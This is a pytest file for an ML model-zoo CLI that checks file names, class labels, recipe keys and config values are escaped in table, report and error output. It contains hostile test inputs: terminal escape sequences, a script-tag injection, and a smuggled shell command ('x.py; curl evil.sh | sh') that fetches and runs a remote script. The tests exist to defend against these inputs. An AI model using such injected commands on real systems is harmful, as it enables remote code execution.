"""Hostile catalogue (issue 15): names that come from files, folders and the command line --
class names, image paths, recipe keys -- are printed escaped. A newline or a terminal escape
sequence in one cannot split an error into two lines, forge a line of output or take over the
terminal; machine-readable formats (json, csv) keep the names exactly."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest
from hostile_helpers import (
    assert_refused,
    image_folder_recipe,
    invoke,
    tiny_recipe,
    write_recipe,
)
from PIL import Image

import zoo
from zoo.analysis.evaluate import EvalOptions, evaluate_source
from zoo.analysis.predict import PredictOptions, format_result, predict
from zoo.errors import printable
from zoo.weights.files import save_model_files

ESCAPE = "\x1b[2J\x1b[31m"  # clear the screen, then print in red
EVIL = [f"red{ESCAPE}shirt", "two\nlines", "tab\there", "plain"]


def test_printable_escapes_control_characters_only() -> None:
    assert printable("T-shirt/top") == "T-shirt/top"
    assert printable("Ünïcödé 猫") == "Ünïcödé 猫"
    assert printable(f"a{ESCAPE}b\nc\x00") == "a\\x1b[2J\\x1b[31mb\\nc\\x00"


def _image(path: Path, seed: int) -> None:
    pixels = np.random.default_rng(seed).integers(0, 256, (8, 8), dtype=np.uint8)
    Image.fromarray(pixels, "L").save(path, format="PNG")


def test_predict_table_escapes_labels_and_paths_json_keeps_them(tmp_path: Path) -> None:
    model = zoo.create("mlp_relu", in_chans=1, img_size=8, num_classes=4, hidden_sizes=[8])
    save_model_files(
        model, tmp_path / "model", input_size=[1, 8, 8], mean=(0.5,), std=(0.5,), label_names=EVIL
    )
    folder = tmp_path / "images"
    folder.mkdir()
    names = [f"scr{ESCAPE}een.png", "new\nline.png"]
    for i, name in enumerate(names):
        _image(folder / name, i)
    result = predict(str(tmp_path / "model"), [str(folder)], PredictOptions(topk=4))
    table = format_result(result, "table")
    assert "\x1b" not in table and "\t" not in table
    assert len(table.splitlines()) == 1 + len(names)  # a header and one line per image
    assert "red\\x1b[2J\\x1b[31mshirt" in table and "two\\nlines" in table
    rows = json.loads(format_result(result, "json"))
    assert {t["label"] for t in rows[0]["top"]} == set(EVIL)  # exact in JSON
    assert sorted(Path(r["path"]).name for r in rows) == sorted(names)


def test_predict_cli_table_is_one_line_per_image(tmp_path: Path) -> None:
    model = zoo.create("mlp_relu", in_chans=1, img_size=8, num_classes=4, hidden_sizes=[8])
    save_model_files(
        model, tmp_path / "model", input_size=[1, 8, 8], mean=(0.5,), std=(0.5,), label_names=EVIL
    )
    _image(tmp_path / f"x{ESCAPE}.png", 0)
    result = invoke("predict", str(tmp_path / "model"), str(tmp_path / f"x{ESCAPE}.png"))
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and len(result.stdout.splitlines()) == 2


def test_eval_table_escapes_class_folder_names(tmp_path: Path) -> None:
    classes = [f"ca{ESCAPE}t", "do\ng"]
    recipe = image_folder_recipe(tmp_path / "images", classes)
    assert invoke("train", write_recipe(tmp_path / "r.yaml", recipe).as_posix(), "--out",
                  str(tmp_path / "run")).exit_code == 0  # fmt: skip
    run = tmp_path / "run"
    result = evaluate_source(str(run), EvalOptions(device="cpu"))
    assert set(result.label_names) == set(classes)  # kept exactly
    table = result.table()
    assert "\x1b" not in table
    assert "ca\\x1b[2J\\x1b[31mt" in table and "do\\ng" in table
    assert len(table.splitlines()) == 8 + len(classes)  # 6 summary, blank, header, one a class


@pytest.mark.parametrize("key", ["optim\nlr", f"optim.l{ESCAPE}r", "data\r.batch_size"])
def test_a_control_character_in_a_set_key_gives_one_escaped_line(tmp_path: Path, key: str) -> None:
    path = write_recipe(tmp_path / "r.yaml", tiny_recipe(epochs=1))
    result = invoke("train", str(path), "--out", str(tmp_path / "run"), "--set", f"{key}=0.1")
    line = assert_refused(result, printable(key))
    assert "\x1b" not in result.stderr and "\r" not in result.stderr
    assert line.startswith("error: ")
    assert not (tmp_path / "run").exists()


def test_report_takes_names_and_numbers_from_a_summary_as_text(tmp_path: Path) -> None:
    """A summary.json's name reaches report headings, alt text and table cells: escaped, one
    line, no HTML. A params that is not a count is left out, not formatted (it raised)."""
    from publish_helpers import make_run

    run, _ = make_run(tmp_path / "run")
    summary = json.loads((run / "summary.json").read_text())
    summary.update(name="x\n<script>alert(1)</script>|## Injected", params="many", test_acc=0.5)
    (run / "summary.json").write_text(json.dumps(summary))
    out = tmp_path / "report"
    result = invoke("report", str(run), "--no-bench", "--out", str(out))
    assert result.exit_code == 0, result.output
    text = (out / "report.md").read_text()
    assert "<script>" not in text and "\n## Injected" not in text
    assert "&lt;script&gt;" in text and "\\|" in text
    assert "many" not in text


def test_suggested_commands_quote_what_a_config_says(tmp_path: Path) -> None:
    """The one-line fix for a run whose architecture comes from an --import quotes the file
    names from config.json: a name cannot append a second shell command to the suggestion."""
    from publish_helpers import make_run

    run, _ = make_run(tmp_path / "run")
    config = json.loads((run / "config.json").read_text())
    config.update(architecture="ghost_model", imports=["x.py; curl evil.sh | sh"])
    (run / "config.json").write_text(json.dumps(config))
    _image(tmp_path / "x.png", 0)
    line = assert_refused(invoke("predict", str(run), str(tmp_path / "x.png")), "ghost_model")
    assert "--import 'x.py; curl evil.sh | sh'" in line
